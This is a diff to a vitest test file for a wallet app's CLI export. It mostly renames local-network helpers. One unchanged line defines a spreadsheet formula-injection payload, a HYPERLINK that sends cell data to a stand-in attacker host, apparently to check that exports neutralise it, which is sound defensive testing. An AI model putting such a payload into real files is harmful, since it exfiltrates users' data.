@@ -6,9 +6,9 @@ import { describe, expect, it } from 'vitest';
 import { main as cli } from '../../electron/hosts/cli/main';
 import { MemoryVault } from '../helpers/memory-vault';
 import { readCsv, readJsonl } from '../helpers/export-reference';
-import { localnetEnv, recordingIo } from '../helpers/cli-io';
+import { localNetworkEnv, recordingIo } from '../helpers/cli-io';
 import { chainSeqno, demoWallet } from '../helpers/localnet';
-import { localnetForSuite } from '../helpers/localnet-suite';
+import { localNetworkForSuite } from '../helpers/localnet-suite';
 import { signTransfer } from '../helpers/sign-transfer';
 import { tempDirForSuite } from '../helpers/temp-dir';
 
@@ -20,10 +20,10 @@ import { tempDirForSuite } from '../helpers/temp-dir';
 
 const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
 
-const ln = localnetForSuite({ blockIntervalMs: 300 }, 300_000);
+const ln = localNetworkForSuite({ blockIntervalMs: 300 }, 300_000);
 const dir = tempDirForSuite('export-hostile-');
 
-const io = () => recordingIo({ env: localnetEnv(ln), vault: new MemoryVault() });
+const io = () => recordingIo({ env: localNetworkEnv(ln), vault: new MemoryVault() });
 
 const exportArgs = (format: string, out: string) => [
   '--user-data',
